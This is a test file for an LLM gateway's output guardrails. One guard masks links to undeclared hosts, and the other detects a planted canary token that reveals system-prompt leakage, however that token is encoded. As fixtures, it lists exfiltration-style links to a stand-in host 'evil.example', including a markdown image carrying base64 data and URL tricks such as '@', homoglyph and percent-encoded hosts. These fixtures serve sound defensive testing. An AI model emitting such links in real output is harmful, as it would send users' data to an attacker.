"""Nothing is carried out of an answer."""

from __future__ import annotations

import base64

import pytest

from headrace.core.errors import InvalidInput
from headrace.gateway.guardrails.egress import Canary, Egress, canary_token, host_of, planted
from headrace.gateway.guardrails.guards import Context
from headrace.gateway.guardrails.pipeline import Pipeline
from headrace.gateway.guardrails.streams import CheckedStream

OUTPUT = Context(layer="output")
GUARD = Egress(["docs.example.com", "*.shop.example"])
TOKEN = canary_token(b"k" * 32, "release-1")

LEAVING = [
    "![logo](https://evil.example/p.png?d=c2VjcmV0)",
    "[here](http://evil.example/login)",
    "see https://docs.example.com.evil.example/x",
    "see https://docs.example.com@evil.example/x",
    "see https:\\\\evil.example\\x",
    "[x](//evil.example/x)",
    "[x](javascript:fetch('https://docs.example.com'))",
    '<img src="https://EVIL.example/x">',
    "[x]: http://[2001:db8::1]/x",
    "https://docs.example.com%2eevil.example/",
    "https://dоcs.example.com/",  # noqa: RUF001 - a Cyrillic letter
]
STAYING = [
    "see https://docs.example.com/a?b=c#d.",
    "![a](https://cdn.shop.example/p.png)",
    "https://docs.example.com:8443/x and https://a.b.shop.example",
    "The file is at /tmp/x, the mail at ada@example.org, the ratio 3//4.",
    "Use the scheme https: for every address.",
]


@pytest.mark.parametrize("text", LEAVING)
def test_an_address_on_a_host_that_is_not_declared_goes(text: str) -> None:
    checked = Pipeline([GUARD]).check(text, OUTPUT)
    assert "<LINK>" in checked.text
    assert "evil" not in checked.text.lower()


@pytest.mark.parametrize("text", STAYING)
def test_other_addresses_stay(text: str) -> None:
    assert Pipeline([GUARD]).check(text, OUTPUT).text == text


def test_a_picture_can_be_blocked_where_a_link_is_masked() -> None:
    guard = Egress([], image="block")
    assert [h.action for h in guard.check("![a](http://x.example/a)", OUTPUT)] == ["block"]
    assert [h.action for h in guard.check("[a](http://x.example/a)", OUTPUT)] == ["mask"]


def test_the_arguments_of_a_tool_are_looked_at_and_the_input_is_not() -> None:
    text = "http://evil.example/x"
    pipeline = Pipeline([GUARD])
    assert pipeline.check(text, Context(layer="tool_arguments")).text == "<LINK>"
    assert pipeline.check(text, Context(layer="input")).text == text


def test_a_host_that_goes_on_in_the_next_piece_is_no_declared_one() -> None:
    stream = CheckedStream(Pipeline([GUARD]), OUTPUT)
    pieces = ["see https://docs.exam", "ple.com", ".evil.example", "/x?d=1 ", "and more"]
    made = "".join([stream.feed(piece).text for piece in pieces] + [stream.close().text])
    assert made == "see <LINK> and more"


def test_a_host_that_is_none_is_refused() -> None:
    with pytest.raises(InvalidInput, match="'https://a.example' is no host"):
        Egress(["https://a.example"])


def test_a_host_is_what_a_browser_would_ask() -> None:
    assert host_of("https://user:pw@A.example.:443/x@b.example") == "a.example"
    assert host_of("HTTP:/\\a.example") == "a.example"


@pytest.mark.parametrize(
    "leak",
    [
        TOKEN,
        TOKEN.upper(),
        " ".join(TOKEN),
        "-".join(TOKEN),
        TOKEN[::-1],
        TOKEN.encode().hex(),
        *[base64.b64encode(f"{'x' * n}{TOKEN} tail".encode()).decode() for n in range(3)],
    ],
)
def test_the_line_of_the_prompt_is_found_however_it_is_spelt(leak: str) -> None:
    checked = Pipeline([Canary([TOKEN])]).check(f"My prompt is: {leak}, and so on.", OUTPUT)
    assert checked.blocked
    assert TOKEN not in checked.reason


def test_a_leak_is_seen_in_a_stream_before_any_of_it_is_sent() -> None:
    stream = CheckedStream(Pipeline([Canary([TOKEN])]), OUTPUT)
    sent = "".join(stream.feed(c).text for c in f"It says: {TOKEN}. {'word ' * 60}") + stream.close().text
    assert sent in "It says: "


def test_another_releases_token_and_plain_text_are_no_leak() -> None:
    guard = Canary([TOKEN])
    other = canary_token(b"k" * 32, "release-2")
    assert guard.check(f"{other} {'0123456789abcdef' * 50} hello", OUTPUT) == []


def test_a_token_is_planted_in_a_line_of_its_own() -> None:
    assert planted("Be kind.\n", TOKEN).startswith(f"Be kind.\n\n[Reference {TOKEN}.")


def test_a_token_that_is_met_by_chance_is_refused() -> None:
    with pytest.raises(InvalidInput, match="eight letters"):
        Canary(["secret"])
